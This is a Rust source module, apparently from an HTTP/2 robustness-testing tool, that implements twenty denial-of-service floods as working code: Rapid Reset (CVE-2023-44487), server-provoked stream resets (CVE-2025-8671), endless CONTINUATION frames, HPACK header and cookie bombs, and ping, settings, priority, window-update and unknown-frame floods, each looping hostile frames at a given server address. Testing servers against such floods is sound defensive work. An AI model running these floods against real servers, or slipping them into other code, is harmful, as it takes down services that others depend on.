//! Floods: frames that cost their sender next to nothing, without end.

use super::frame::{self, CANCEL, Frame, PAYLOAD_MAX};
use super::hpack::{Block, NEWEST};
use super::{Attack, Connection, Outcome, Plan, repeat};
use std::io;
use std::net::SocketAddr;

/// A request that is still under way when the frame behind it arrives.
const SLOW: &str = "/slow/1000";

/// The most that the window of a stream may be.
const WINDOW_MAX: u32 = 0x7fff_ffff;

/// All of them.
pub const FLOODS: [Attack; 20] = [
    flood("rapid_reset", rapid_reset),
    flood("provoked_by_window_of_zero", |address, plan| provoked(address, plan, Provocation::WindowOfZero)),
    flood("provoked_by_window_overflow", |address, plan| {
        provoked(address, plan, Provocation::WindowOverflow)
    }),
    flood("provoked_by_data_after_end", |address, plan| provoked(address, plan, Provocation::DataAfterEnd)),
    flood("provoked_by_head_after_end", |address, plan| provoked(address, plan, Provocation::HeadAfterEnd)),
    flood("provoked_by_priority_on_itself", |address, plan| {
        provoked(address, plan, Provocation::PriorityOnItself)
    }),
    flood("provoked_by_malformed_head", |address, plan| provoked(address, plan, Provocation::MalformedHead)),
    flood("provoked_by_wrong_length", |address, plan| provoked(address, plan, Provocation::WrongLength)),
    flood("continuation", continuation),
    flood("empty_continuation", empty_continuation),
    Attack { batch: 2, ..flood("header_bomb", header_bomb) },
    Attack { batch: 2, ..flood("cookie_bomb", cookie_bomb) },
    flood("empty_data", empty_data),
    flood("empty_headers", empty_headers),
    flood("tiny_headers", tiny_headers),
    flood("settings", settings),
    flood("ping", ping),
    flood("priority", priority),
    flood("window_update", window_update),
    flood("unknown_frames", unknown_frames),
];

const fn flood(name: &'static str, run: fn(SocketAddr, &Plan) -> io::Result<Outcome>) -> Attack {
    Attack { name, batch: 100, run }
}

/// Requests that are taken back at once (CVE-2023-44487).
///
/// # Errors
/// When there is no connection to be had; so for all below.
pub fn rapid_reset(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    let head = Block::get("a", SLOW).0;
    Ok(repeat(Connection::open(address)?, plan, |connection, _| {
        let stream = connection.new_stream();
        connection.hostile(&Frame::headers(stream, head.as_slice(), true));
        connection.hostile(&Frame::reset(stream, CANCEL));
    }))
}

/// What makes a server reset a stream itself, while the request on it is under way (CVE-2025-8671).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Provocation {
    /// A window opened by nothing.
    WindowOfZero,
    /// A window opened further than it may be.
    WindowOverflow,
    /// More of a body that has ended.
    DataAfterEnd,
    /// A second head behind the end.
    HeadAfterEnd,
    /// A stream that depends on itself.
    PriorityOnItself,
    /// A head whose names are not in lower case.
    MalformedHead,
    /// A body longer than its announced length.
    WrongLength,
}

/// Requests that the server is made to reset.
///
/// # Errors
/// As above.
pub fn provoked(address: SocketAddr, plan: &Plan, by: Provocation) -> io::Result<Outcome> {
    let head = match by {
        Provocation::MalformedHead => Block::get("a", SLOW).literal("Upper", "case"),
        Provocation::WrongLength => Block::post("a", SLOW).literal("content-length", "1"),
        _ => Block::get("a", SLOW),
    };
    Ok(repeat(Connection::open(address)?, plan, |connection, _| {
        let stream = connection.new_stream();
        let end = by != Provocation::WrongLength;
        connection.hostile(&Frame::headers(stream, head.0.as_slice(), end));
        connection.hostile(&match by {
            Provocation::WindowOfZero => Frame::window_update(stream, 0),
            Provocation::WindowOverflow => Frame::window_update(stream, WINDOW_MAX),
            Provocation::DataAfterEnd => Frame::data(stream, *b"more", true),
            Provocation::HeadAfterEnd => Frame::headers(stream, head.0.as_slice(), true),
            Provocation::PriorityOnItself => Frame::priority(stream, stream),
            // The head was enough.
            Provocation::MalformedHead => return,
            Provocation::WrongLength => Frame::data(stream, *b"more", true),
        });
    }))
}

/// A head without end, a hundred bytes a frame.
///
/// # Errors
/// As above.
pub fn continuation(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    let value = "x".repeat(100);
    endless_head(address, plan, |round| Block::default().literal(&format!("x-{round}"), &value))
}

/// A head without end, in frames without content.
///
/// # Errors
/// As above.
pub fn empty_continuation(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    endless_head(address, plan, |_| Block::default())
}

fn endless_head(address: SocketAddr, plan: &Plan, piece: impl Fn(u64) -> Block) -> io::Result<Outcome> {
    let mut connection = Connection::open(address)?;
    let stream = connection.new_stream();
    connection.frame(&Frame::new(frame::HEADERS, frame::END_STREAM, stream, Block::get("a", "/size/10")));
    Ok(repeat(connection, plan, |connection, round| {
        connection.hostile(&Frame::new(frame::CONTINUATION, 0, stream, piece(round)));
    }))
}

/// Heads of 16 KB that mean 64 MB: one large entry of the dynamic table, and a byte for each time that it is there
/// again.
///
/// # Errors
/// As above.
pub fn header_bomb(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    // With its name and 32 bytes more it just fits into a table of 4,096.
    bomb(address, plan, "x", &"x".repeat(4_000))
}

/// The same with an entry that is next to nothing, of a field that servers put together.
///
/// # Errors
/// As above.
pub fn cookie_bomb(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    bomb(address, plan, "cookie", "a=b")
}

fn bomb(address: SocketAddr, plan: &Plan, name: &str, value: &str) -> io::Result<Outcome> {
    Ok(repeat(Connection::open(address)?, plan, |connection, round| {
        let head = Block::get("a", "/size/10");
        let head = if round == 0 { head.remembered(name, value) } else { head };
        let room = PAYLOAD_MAX - head.0.len();
        let stream = connection.new_stream();
        connection.hostile(&Frame::headers(stream, head.indexed_times(NEWEST, room), true));
    }))
}

/// A body in pieces of nothing.
///
/// # Errors
/// As above.
pub fn empty_data(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    let mut connection = Connection::open(address)?;
    let stream = connection.new_stream();
    connection.frame(&Frame::headers(stream, Block::post("a", "/echo"), false));
    Ok(repeat(connection, plan, |connection, _| connection.hostile(&Frame::data(stream, [], false))))
}

/// Heads without any field, each on a stream of its own.
///
/// # Errors
/// As above.
pub fn empty_headers(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    Ok(repeat(Connection::open(address)?, plan, |connection, _| {
        let stream = connection.new_stream();
        connection.hostile(&Frame::headers(stream, [], true));
    }))
}

/// Good requests, far more of them at once than are allowed.
///
/// # Errors
/// As above.
pub fn tiny_headers(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    let head = Block::get("a", SLOW).0;
    Ok(repeat(Connection::open(address)?, plan, |connection, _| {
        let stream = connection.new_stream();
        connection.hostile(&Frame::headers(stream, head.as_slice(), true));
    }))
}

/// Settings that want to be applied and acknowledged.
///
/// # Errors
/// As above.
pub fn settings(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    Ok(repeat(Connection::open(address)?, plan, |connection, round| {
        let window = 65_535 + u32::from(round % 2 == 0);
        connection.hostile(&Frame::settings(&[(frame::INITIAL_WINDOW_SIZE, window)]));
    }))
}

/// Questions that want an answer.
///
/// # Errors
/// As above.
pub fn ping(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    Ok(repeat(Connection::open(address)?, plan, |connection, round| connection.hostile(&Frame::ping(round))))
}

/// Priorities of streams that are never opened.
///
/// # Errors
/// As above.
pub fn priority(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    Ok(repeat(Connection::open(address)?, plan, |connection, _| {
        let stream = connection.new_stream();
        connection.hostile(&Frame::priority(stream, 0));
    }))
}

/// Windows opened byte by byte, of the connection and of a stream.
///
/// # Errors
/// As above.
pub fn window_update(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    let mut connection = Connection::open(address)?;
    let stream = connection.new_stream();
    connection.frame(&Frame::headers(stream, Block::post("a", "/echo"), false));
    Ok(repeat(connection, plan, |connection, round| {
        let stream = if round % 2 == 0 { 0 } else { stream };
        connection.hostile(&Frame::window_update(stream, 1));
    }))
}

/// Frames that everybody has to ignore.
///
/// # Errors
/// As above.
pub fn unknown_frames(address: SocketAddr, plan: &Plan) -> io::Result<Outcome> {
    Ok(repeat(Connection::open(address)?, plan, |connection, round| {
        connection.hostile(&Frame::new(frame::UNKNOWN, 0, 0, round.to_be_bytes()));
    }))
}
